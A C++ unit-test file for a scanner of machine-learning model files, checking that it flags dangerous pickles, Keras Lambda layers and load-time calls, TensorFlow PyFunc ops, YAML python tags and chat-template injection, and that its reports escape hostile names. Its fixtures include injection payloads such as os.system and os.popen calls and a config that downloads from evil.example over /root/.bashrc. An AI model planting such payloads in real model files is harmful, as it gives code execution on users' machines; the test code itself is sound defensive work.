#include "scan/scan.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>
#include <string>

#include "formats/protobuf.h"
#include "scan/report.h"
#include "test_util.h"

namespace airlock::scan {
namespace {

std::span<const std::byte> Bytes(const std::string& s) {
  return {reinterpret_cast<const std::byte*>(s.data()), s.size()};
}

// Protobuf helpers to build TensorFlow graphs by hand.
std::string Varint(std::uint64_t v) {
  std::string out;
  do {
    std::uint8_t b = v & 0x7f;
    v >>= 7;
    out.push_back(static_cast<char>(v ? b | 0x80 : b));
  } while (v);
  return out;
}
std::string Len(int field, const std::string& payload) {
  return Varint(static_cast<std::uint64_t>(field) << 3 | 2) + Varint(payload.size()) + payload;
}
std::string Node(const std::string& name, const std::string& op) {
  return Len(1, name) + Len(2, op);
}
std::string SavedModel(const std::string& graph) { return Len(2, Len(2, graph)); }

TEST(VerdictTest, SeverityAndIncompletenessDecideTheVerdict) {
  std::vector<Finding> f;
  EXPECT_EQ(VerdictOf(f), Verdict::kClean);
  f.push_back({.rule_id = "x", .severity = Severity::kLow});
  EXPECT_EQ(VerdictOf(f), Verdict::kClean);
  f.push_back({.rule_id = "y", .severity = Severity::kLow, .incomplete = true});
  EXPECT_EQ(VerdictOf(f), Verdict::kInconclusive);
  f.push_back({.rule_id = "z", .severity = Severity::kHigh});
  EXPECT_EQ(VerdictOf(f), Verdict::kMalicious);
  EXPECT_EQ(VerdictOf({{.rule_id = "u", .severity = Severity::kMedium}}), Verdict::kInconclusive);
}

TEST(ScanBufferTest, UnknownBinaryIsInconclusiveNeverClean) {
  std::string junk("\x01\x02\x03\x00\xff\xfe", 6);
  auto r = ScanBuffer(Bytes(junk), "blob.xyz", {});
  EXPECT_EQ(r.verdict, Verdict::kInconclusive);
  EXPECT_EQ(r.findings.at(0).rule_id, "scan.unknown-format");
}

TEST(ScanBufferTest, EmptyAndTextFilesAreClean) {
  EXPECT_EQ(ScanBuffer({}, "empty", {}).verdict, Verdict::kClean);
  std::string text = "# Model card\nThis model is great.\n";
  EXPECT_EQ(ScanBuffer(Bytes(text), "README.md", {}).verdict, Verdict::kClean);
}

TEST(ScanBufferTest, ExecutablesAndCodeAreFlagged) {
  std::string elf(
      "\x7f"
      "ELF\x02\x01\x01\x00",
      8);
  EXPECT_EQ(ScanBuffer(Bytes(elf), "libcustom.so", {}).verdict, Verdict::kMalicious);
  // Every .py file needs review; one that runs a process is malicious (issue #12, class 6).
  std::string py = "import os\nos.system('id')\n";
  auto r = ScanBuffer(Bytes(py), "modeling_custom.py", {});
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  EXPECT_EQ(r.findings.at(0).rule_id, "code.python-source");
  auto plain = ScanBuffer(Bytes(std::string("import torch\nx = torch.zeros(3)\n")), "m.py", {});
  EXPECT_EQ(plain.verdict, Verdict::kInconclusive);
}

TEST(ScanBufferTest, ImagesAreCleanButImageZipPolyglotsAreNot) {
  std::string png("\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR", 16);
  EXPECT_EQ(ScanBuffer(Bytes(png), "card.png", {}).verdict, Verdict::kClean);
  // An empty zip (just an end-of-central-directory record) appended to the image.
  std::string polyglot = png + std::string("PK\x05\x06", 4) + std::string(18, '\0');
  auto r = ScanBuffer(Bytes(polyglot), "card.png", {});
  EXPECT_NE(r.verdict, Verdict::kClean);
  EXPECT_EQ(r.findings.at(0).rule_id, "zip.polyglot");
}

TEST(ScanBufferTest, GgufWithAZipTailIsFlaggedUnlessNamedGguf) {
  std::string gguf = std::string("GGUF\x03\x00\x00\x00", 8) + std::string(16, '\0');
  std::string eocd = std::string("PK\x05\x06", 4) + std::string(18, '\0');
  auto as_pt = ScanBuffer(Bytes(gguf + eocd), "model.pt", {});
  EXPECT_TRUE(std::any_of(as_pt.findings.begin(), as_pt.findings.end(),
                          [](const Finding& f) { return f.rule_id == "zip.polyglot"; }));
  auto as_gguf = ScanBuffer(Bytes(gguf + eocd), "model.gguf", {});
  EXPECT_TRUE(std::none_of(as_gguf.findings.begin(), as_gguf.findings.end(),
                           [](const Finding& f) { return f.rule_id == "zip.polyglot"; }));
}

TEST(TensorFlowTest, PyFuncInGraphIsCritical) {
  std::string graph = Len(1, Node("c", "Const")) + Len(1, Node("evil", "PyFunc"));
  auto r = ScanBuffer(Bytes(SavedModel(graph)), "saved_model.pb", {});
  ASSERT_EQ(r.verdict, Verdict::kMalicious);
  EXPECT_EQ(r.format, "tensorflow");
  EXPECT_EQ(r.findings.at(0).rule_id, "tensorflow.dangerous-op");
  EXPECT_EQ(r.findings.at(0).severity, Severity::kCritical);
  EXPECT_NE(r.findings.at(0).message.find("evil"), std::string::npos);
}

TEST(TensorFlowTest, OpsInsideTheFunctionLibraryAreFound) {
  // GraphDef.library(2) -> FunctionDefLibrary.function(1) -> FunctionDef.node_def(3)
  std::string fn = Len(3, Node("reader", "ReadFile"));
  std::string graph = Len(1, Node("c", "Const")) + Len(2, Len(1, fn));
  auto r = ScanBuffer(Bytes(SavedModel(graph)), "saved_model.pb", {});
  ASSERT_EQ(r.verdict, Verdict::kMalicious);
  EXPECT_EQ(r.findings.at(0).severity, Severity::kHigh);
}

TEST(TensorFlowTest, BenignGraphIsCleanAndTruncatedGraphIsInconclusive) {
  std::string model = SavedModel(Len(1, Node("a", "MatMul")) + Len(1, Node("b", "Relu")));
  EXPECT_EQ(ScanBuffer(Bytes(model), "saved_model.pb", {}).verdict, Verdict::kClean);
  std::string truncated = model.substr(0, model.size() - 3);
  auto r = ScanBuffer(Bytes(truncated), "saved_model.pb", {});
  EXPECT_EQ(r.verdict, Verdict::kInconclusive);
}

TEST(ProtobufTest, RejectsLengthsPastTheEnd) {
  std::string bad = Varint(2 << 3 | 2) + Varint(1000) + "abc";
  formats::protobuf::FieldReader r(Bytes(bad));
  EXPECT_FALSE(r.Next().has_value());
  EXPECT_EQ(r.error().code(), StatusCode::kCorrupt);
}

std::string Hdf5With(const std::string& config) {
  std::string file("\x89HDF\r\n\x1a\n", 8);
  file += std::string(64, '\0') + "model_config" + std::string(8, '\0') + config +
          std::string(32, '\0');
  return file;
}

TEST(KerasTest, LambdaLayerIsCriticalEvenWhenNested) {
  std::string config =
      R"({"class_name": "Sequential", "config": {"layers": [{"class_name": "Functional",)"
      R"( "config": {"layers": [{"class_name": "Lambda", "config": {"function": "lambda x: x"}}]}}]}})";
  auto r = ScanBuffer(Bytes(Hdf5With(config)), "model.h5", {});
  ASSERT_EQ(r.verdict, Verdict::kMalicious);
  EXPECT_EQ(r.findings.at(0).rule_id, "keras.lambda-layer");
}

TEST(KerasTest, ForeignModuleReferenceIsHigh) {
  std::string config =
      R"({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "module": "os", "config": {}}]}})";
  auto r = ScanBuffer(Bytes(Hdf5With(config)), "model.h5", {});
  ASSERT_EQ(r.verdict, Verdict::kMalicious);
  EXPECT_EQ(r.findings.at(0).rule_id, "keras.foreign-module");
}

TEST(KerasTest, DenseModelIsCleanAndMissingConfigIsInconclusive) {
  std::string config =
      R"({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", "module": "keras.layers", "config": {"units": 3}}]}})";
  EXPECT_EQ(ScanBuffer(Bytes(Hdf5With(config)), "model.h5", {}).verdict, Verdict::kClean);
  std::string hidden = Hdf5With("\x01\x02 compressed");
  EXPECT_EQ(ScanBuffer(Bytes(hidden), "model.h5", {}).verdict, Verdict::kInconclusive);
}

TEST(KerasTest, KerasV3ConfigJsonIsJudgedToo) {
  std::string config =
      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {"function": {"module": "builtins", "class_name": "function", "config": "exec"}}}]}})";
  auto r = ScanBuffer(Bytes(config), "config.json", {});
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
}

// Issue #12 class 5: names resolved the way Keras 3 resolves them (module + "." + class_name).
TEST(KerasTest, Keras3ModuleAndClassNameResolveToLambda) {
  std::string config =
      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [)"
      R"({"module": "keras", "class_name": "layers.Lambda", "config": {"function": "f"}}]}})";
  auto r = ScanBuffer(Bytes(config), "config.json", {});
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  bool lambda = false;
  for (const auto& f : r.findings) lambda |= f.rule_id == "keras.lambda-layer";
  EXPECT_TRUE(lambda);
  std::string deep =
      R"({"class_name": "Sequential", "config": {"layers": [{"module": )"
      R"("keras.src.layers.core.lambda_layer", "class_name": "Lambda", "config": {}}]}})";
  EXPECT_EQ(ScanBuffer(Bytes(Hdf5With(deep)), "model.h5", {}).verdict, Verdict::kMalicious);
}

// Keras 3 rebuilds {"class_name": "__lambda__"} with func_load wherever it accepts a callable.
TEST(KerasTest, SerializedLambdaAsAnActivationIsCritical) {
  std::string config =
      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": )"
      R"("keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": )"
      R"({"class_name": "__lambda__", "config": {"value": ["4wEAAAAAAAAA", null, null]}}}}]}})";
  auto r = ScanBuffer(Bytes(config), "config.json", {});
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  bool lambda = false;
  for (const auto& f : r.findings) lambda |= f.rule_id == "keras.lambda-layer";
  EXPECT_TRUE(lambda);
}

TEST(KerasTest, InitializerGivenByModulePathIsALoadTimeCall) {
  // keras.utils.get_file as a Dense kernel initializer: downloads into the home folder on load.
  std::string config =
      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": )"
      R"("keras.layers", "class_name": "Dense", "config": {"units": 2, "kernel_initializer": )"
      R"({"module": "keras.utils", "class_name": "get_file", "config": {"origin": )"
      R"("https://evil.example/x", "fname": "/root/.bashrc"}}}}]}})";
  auto r = ScanBuffer(Bytes(config), "config.json", {});
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  bool call = false;
  for (const auto& f : r.findings) call |= f.rule_id == "keras.load-time-call";
  EXPECT_TRUE(call);
  // The same through {"class_name": "function"}: the function name is in "config".
  std::string fn =
      R"({"class_name": "Sequential", "config": {"layers": [{"class_name": "Dense", )"
      R"("module": "keras.layers", "config": {"activation": {"module": "keras.config", )"
      R"("class_name": "function", "config": "enable_unsafe_deserialization"}}}]}})";
  EXPECT_EQ(ScanBuffer(Bytes(Hdf5With(fn)), "model.h5", {}).verdict, Verdict::kMalicious);
  // Ordinary initializers, regularizers, constraints and activations stay clean.
  std::string ok =
      R"({"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": )"
      R"("keras.layers", "class_name": "Dense", "config": {"units": 2, "kernel_initializer": )"
      R"({"module": "keras.initializers", "class_name": "GlorotUniform", "config": {}}, )"
      R"("kernel_regularizer": {"module": "keras.regularizers", "class_name": "L2", "config": )"
      R"({"l2": 0.01}}, "kernel_constraint": {"module": "keras.constraints", "class_name": )"
      R"("MaxNorm", "config": {}}, "activation": {"module": "keras.activations", "class_name": )"
      R"("function", "config": "relu"}}}]}})";
  EXPECT_EQ(ScanBuffer(Bytes(ok), "config.json", {}).verdict, Verdict::kClean);
  // A Keras area we do not know: needs review.
  std::string odd = R"({"class_name": "Sequential", "config": {"layers": [{"module": )"
                    R"("keras.somethingnew", "class_name": "Thing", "config": {}}]}})";
  EXPECT_EQ(ScanBuffer(Bytes(odd), "config.json", {}).verdict, Verdict::kInconclusive);
}

TEST(YamlTest, PythonTagsAndTemplatesInAnyScalarStyle) {
  std::string tag = "model: !!python/object/apply:os.system ['id']\n";
  auto r = ScanBuffer(Bytes(tag), "config.yaml", {});
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
  EXPECT_EQ(r.findings.at(0).rule_id, "yaml.python-tag");
  std::string block =
      "generation:\n  chat_template: |\n    {{ cycler.__init__.__globals__.os.popen('id') }}\n"
      "  max_length: 10\n";
  EXPECT_EQ(ScanBuffer(Bytes(block), "config.yml", {}).verdict, Verdict::kMalicious);
  std::string benign =
      "chat_template: \"{% for m in messages %}{{ m['content'] }}\\n{% endfor %}\"\nname: x\n";
  EXPECT_EQ(ScanBuffer(Bytes(benign), "config.yaml", {}).verdict, Verdict::kClean);
}

TEST(YamlTest, DeepNestingIsLinearAndStillFindsTemplates) {
  // 100k nested keys, each key's value being the mapping below it: every line is looked at a
  // bounded number of times, and a template after the block is still found.
  std::string yaml;
  for (int i = 0; i < 100000; ++i)
    yaml += std::string(i % 64, ' ') + "k" + std::to_string(i) + ":\n";
  yaml += "chat_template: \"{{ self.__init__.__globals__ }}\"\n";
  auto r = ScanBuffer(Bytes(yaml), "big.yaml", {});
  EXPECT_EQ(r.verdict, Verdict::kMalicious);
}

ScanReport SampleReport() {
  ScanReport report;
  FileReport f;
  f.path = "m.pkl";
  f.format = "pickle";
  f.findings.push_back({.rule_id = "pickle.dangerous-import",
                        .severity = Severity::kCritical,
                        .message = "imports os.system",
                        .path = "m.pkl",
                        .member = "archive/data.pkl",
                        .offset = 12});
  f.verdict = VerdictOf(f.findings);
  report.files.push_back(f);
  report.verdict = f.verdict;
  return report;
}

TEST(ReportTest, JsonHasStableSchema) {
  auto doc = nlohmann::json::parse(RenderJson(SampleReport()));
  EXPECT_EQ(doc["schema"], "airlock.scan/v1");
  EXPECT_EQ(doc["verdict"], "malicious");
  const auto& finding = doc["files"][0]["findings"][0];
  EXPECT_EQ(finding["rule_id"], "pickle.dangerous-import");
  EXPECT_EQ(finding["severity"], "critical");
  EXPECT_EQ(finding["member"], "archive/data.pkl");
  EXPECT_EQ(finding["offset"], 12);
}

TEST(ReportTest, SarifIsVersion210WithRulesAndResults) {
  auto doc = nlohmann::json::parse(RenderSarif(SampleReport()));
  EXPECT_EQ(doc["version"], "2.1.0");
  const auto& run = doc["runs"][0];
  EXPECT_EQ(run["tool"]["driver"]["name"], "airlock");
  EXPECT_EQ(run["tool"]["driver"]["rules"][0]["id"], "pickle.dangerous-import");
  EXPECT_EQ(run["results"][0]["level"], "error");
  EXPECT_EQ(run["results"][0]["ruleIndex"], 0);
  EXPECT_EQ(run["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "m.pkl");
}

// GitHub's anchor for a Markdown heading: lowercase, punctuation other than '-' and '_' dropped,
// spaces turned into '-'.
std::string GithubAnchor(const std::string& heading) {
  std::string out;
  for (unsigned char c : heading) {
    if (std::isalnum(c) || c == '-' || c == '_') out += static_cast<char>(std::tolower(c));
    if (c == ' ') out += '-';
  }
  return out;
}

std::set<std::string> RulesDocAnchors() {
  std::ifstream in(std::filesystem::path(AIRLOCK_SOURCE_DIR) / "docs/rules.md");
  std::set<std::string> anchors;
  std::string line;
  while (std::getline(in, line)) {
    std::size_t hashes = line.find_first_not_of('#');
    if (hashes > 0 && hashes != std::string::npos && line[hashes] == ' ')
      anchors.insert(GithubAnchor(line.substr(hashes + 1)));
  }
  return anchors;
}

// One finding of each kind SARIF consumers care about: a text file with a line, a binary file
// with an offset, an archive member, and a file outside the base folder.
ScanReport SarifReport() {
  ScanReport report;
  auto add = [&](Finding f) {
    FileReport file;
    file.path = f.path;
    file.findings.push_back(f);
    file.verdict = VerdictOf(file.findings);
    report.files.push_back(file);
  };
  add({.rule_id = "template.code-execution",
       .severity = Severity::kCritical,
       .message = "calls os.system",
       .path = "/repo/models/a b/tokenizer_config.json",
       .offset = 120,
       .line = 7});
  add({.rule_id = "gguf.bad-n-dims",
       .severity = Severity::kHigh,
       .message = "5 dims",
       .path = "/repo/m.gguf",
       .offset = 4096});
  add({.rule_id = "pickle.dangerous-import",
       .severity = Severity::kCritical,
       .message = "imports os.system",
       .path = "/repo/w.pt",
       .member = "archive/data.pkl",
       .offset = 12});
  add({.rule_id = "folder.remote-code-file",
       .severity = Severity::kMedium,
       .message = "custom code",
       .path = "/elsewhere/model"});
  add({.rule_id = "python.process",
       .severity = Severity::kHigh,
       .message = "runs a process",
       .path = "/repo/modeling.py",
       .offset = 30,
       .line = 2});
  report.verdict = Verdict::kMalicious;
  return report;
}

TEST(ReportTest, SarifUsesRepositoryRelativeUrisWithABaseId) {
  auto doc = nlohmann::json::parse(RenderSarif(SarifReport(), "/repo"));
  const auto& run = doc["runs"][0];
  EXPECT_EQ(run["originalUriBaseIds"]["%SRCROOT%"]["uri"], "file:///repo/");
  std::vector<std::string> uris;
  for (const auto& r : run["results"]) {
    const auto& loc = r["locations"][0]["physicalLocation"]["artifactLocation"];
    std::string uri = loc["uri"];
    uris.push_back(uri);
    // Never a bare absolute path: either relative to %SRCROOT% or a file:// URI.
    EXPECT_NE(uri[0], '/') << uri;
    if (uri.rfind("file://", 0) == 0) {
      EXPECT_FALSE(loc.contains("uriBaseId")) << uri;
    } else {
      EXPECT_EQ(loc["uriBaseId"], "%SRCROOT%") << uri;
    }
  }
  EXPECT_EQ(uris[0], "models/a%20b/tokenizer_config.json");
  EXPECT_EQ(uris[1], "m.gguf");
  EXPECT_EQ(uris[3], "file:///elsewhere/model");
}

TEST(ReportTest, SarifResultsAllHaveRegionsFingerprintsAndLines) {
  auto doc = nlohmann::json::parse(RenderSarif(SarifReport(), "/repo"));
  const auto& results = doc["runs"][0]["results"];
  ASSERT_EQ(results.size(), 5u);
  std::set<std::string> fingerprints;
  for (const auto& r : results) {
    const auto& region = r["locations"][0]["physicalLocation"]["region"];
    ASSERT_TRUE(region.contains("startLine")) << r.dump();
    EXPECT_GE(region["startLine"].get<int>(), 1);
    ASSERT_TRUE(r.contains("partialFingerprints")) << r.dump();
    for (const auto& [key, value] : r["partialFingerprints"].items())
      fingerprints.insert(value.get<std::string>());
  }
  EXPECT_EQ(fingerprints.size(), 5u);  // distinct findings, distinct fingerprints
  EXPECT_EQ(results[0]["locations"][0]["physicalLocation"]["region"]["startLine"], 7);
  EXPECT_EQ(results[4]["locations"][0]["physicalLocation"]["region"]["startLine"], 2);
  EXPECT_EQ(results[1]["locations"][0]["physicalLocation"]["region"]["byteOffset"], 4096);
  // The archive member is named in the message and the properties.
  EXPECT_NE(results[2]["message"]["text"].get<std::string>().find("archive/data.pkl"),
            std::string::npos);
  EXPECT_EQ(results[2]["properties"]["member"], "archive/data.pkl");
  // Fingerprints do not depend on the machine's absolute paths.
  auto moved = SarifReport();
  for (auto& f : moved.files)
    for (auto& finding : f.findings)
      if (finding.path.rfind("/repo/", 0) == 0)
        finding.path = "/ci/checkout/" + finding.path.substr(6);
  auto doc2 = nlohmann::json::parse(RenderSarif(moved, "/ci/checkout"));
  EXPECT_EQ(doc2["runs"][0]["results"][0]["partialFingerprints"],
            results[0]["partialFingerprints"]);
}

TEST(ReportTest, SarifRulesHaveDescriptionsHelpAndDocAnchors) {
  auto doc = nlohmann::json::parse(RenderSarif(SarifReport(), "/repo"));
  const auto& run = doc["runs"][0];
  ASSERT_TRUE(run.contains("invocations"));
  EXPECT_EQ(run["invocations"][0]["executionSuccessful"], true);
  std::set<std::string> anchors = RulesDocAnchors();
  ASSERT_FALSE(anchors.empty()) << "docs/rules.md not found";
  const auto& rules = run["tool"]["driver"]["rules"];
  EXPECT_EQ(rules.size(), 5u);
  for (const auto& rule : rules) {
    EXPECT_FALSE(rule["fullDescription"]["text"].get<std::string>().empty());
    EXPECT_FALSE(rule["help"]["text"].get<std::string>().empty());
    std::string uri = rule["helpUri"];
    EXPECT_EQ(uri.find("example.invalid"), std::string::npos) << uri;
    EXPECT_EQ(uri.rfind("https://", 0), 0u) << uri;
    std::size_t hash = uri.find("/docs/rules.md#");
    ASSERT_NE(hash, std::string::npos) << uri;
    std::string anchor = uri.substr(hash + 15);
    EXPECT_TRUE(anchors.count(anchor))
        << rule["id"] << " -> #" << anchor << " is not a heading of docs/rules.md";
  }
  // Every documented family gets its own section, not the page top.
  for (const char* id : {"template.x", "gguf.x", "folder.x", "python.x", "safetensors.x",
                         "config.x", "keras.x", "pickle.polyglot"}) {
    ScanReport one;
    one.files.push_back({.path = "/repo/f", .findings = {{.rule_id = id, .path = "/repo/f"}}});
    auto d = nlohmann::json::parse(RenderSarif(one, "/repo"));
    std::string uri = d["runs"][0]["tool"]["driver"]["rules"][0]["helpUri"];
    std::string anchor = uri.substr(uri.find('#') + 1);
    EXPECT_NE(anchor, "scan-rules") << id;
    EXPECT_TRUE(anchors.count(anchor)) << id << " -> " << anchor;
  }
}

TEST(ReportTest, TextFindingsCarryTheirLine) {
  std::string json =
      "{\n  \"model_type\": \"llama\",\n  \"chat_template\": \"{{ "
      "cycler.__init__.__globals__.os.popen('id').read() }}\"\n}\n";
  FileReport r = ScanBuffer(Bytes(json), "tokenizer_config.json", {});
  bool any = false;
  for (const auto& f : r.findings)
    if (f.rule_id.rfind("template.", 0) == 0 && f.offset) {
      any = true;
      EXPECT_EQ(f.line, 3u) << f.rule_id;
    }
  EXPECT_TRUE(any) << "no template finding with an offset";
  std::string py = "import os\n\nos.system('id')\n";
  FileReport p = ScanBuffer(Bytes(py), "modeling_x.py", {});
  for (const auto& f : p.findings)
    if (f.offset) EXPECT_TRUE(f.line.has_value()) << f.rule_id;
}

TEST(ReportTest, FolderLineNeverReadsCleanAboveMaliciousFiles) {
  airlock::testing::TempDir tmp("folderline");
  auto dir = tmp.path() / "model";
  std::filesystem::create_directories(dir);
  // A protocol-2 pickle that imports os.system.
  std::ofstream(dir / "evil.pkl", std::ios::binary) << std::string(
      "\x80\x02"
      "cos\nsystem\nq\x00.",
      16);
  std::ofstream(dir / "README.md") << "hello\n";
  auto report = ScanPaths({dir.string()}, {});
  ASSERT_TRUE(report.has_value());
  for (const auto& f : report->files)
    if (f.format == "model-folder") EXPECT_EQ(f.verdict, Verdict::kMalicious);
  std::string text = RenderText(*report, false, false);
  EXPECT_EQ(text.find("clean        " + dir.string() + " (model-folder"), std::string::npos)
      << text;
  EXPECT_NE(text.find("malicious    " + dir.string() + " (model-folder"), std::string::npos)
      << text;
  EXPECT_NE(text.find("2 file(s): 1 clean, 1 malicious"), std::string::npos) << text;
}

TEST(ReportTest, ExitCodesAreDistinct) {
  ScanReport clean;
  clean.files.push_back({.path = "a", .verdict = Verdict::kClean});
  EXPECT_EQ(ExitCodeFor(clean, Severity::kHigh), kExitClean);
  ScanReport bad = SampleReport();
  EXPECT_EQ(ExitCodeFor(bad, Severity::kHigh), kExitFindings);
  EXPECT_EQ(ExitCodeFor(bad, Severity::kCritical), kExitFindings);
  ScanReport unsure;
  unsure.files.push_back(
      {.path = "b",
       .verdict = Verdict::kInconclusive,
       .findings = {
           {.rule_id = "scan.unknown-format", .severity = Severity::kLow, .incomplete = true}}});
  EXPECT_EQ(ExitCodeFor(unsure, Severity::kHigh), kExitInconclusive);
  // Incomplete findings never count as "findings over the threshold".
  EXPECT_EQ(ExitCodeFor(unsure, Severity::kInfo), kExitInconclusive);
}

TEST(ReportTest, TextNamesVerdictRuleAndLocation) {
  std::string text = RenderText(SampleReport(), /*color=*/false, /*verbose=*/false);
  EXPECT_NE(text.find("malicious"), std::string::npos);
  EXPECT_NE(text.find("pickle.dangerous-import"), std::string::npos);
  EXPECT_NE(text.find("archive/data.pkl @12"), std::string::npos);
  EXPECT_EQ(text.find("\033["), std::string::npos);
}

TEST(ReportTest, TextEscapesHostileFileAndMemberNames) {
  // A file or archive member named to clear the screen and forge a "clean" line.
  ScanReport report = SampleReport();
  report.files[0].path = "m\033[2J\rclean        ok.pkl\n";
  report.files[0].findings[0].member = "a\033]0;title\007.pkl";
  std::string text = RenderText(report, /*color=*/false, /*verbose=*/false);
  EXPECT_EQ(text.find('\033'), std::string::npos) << text;
  EXPECT_EQ(text.find('\r'), std::string::npos) << text;
  EXPECT_EQ(text.find('\007'), std::string::npos) << text;
  EXPECT_NE(text.find("m\\x1b[2J\\rclean"), std::string::npos) << text;
  EXPECT_NE(text.find("a\\x1b]0;title\\x07.pkl"), std::string::npos) << text;
}

}  // namespace
}  // namespace airlock::scan
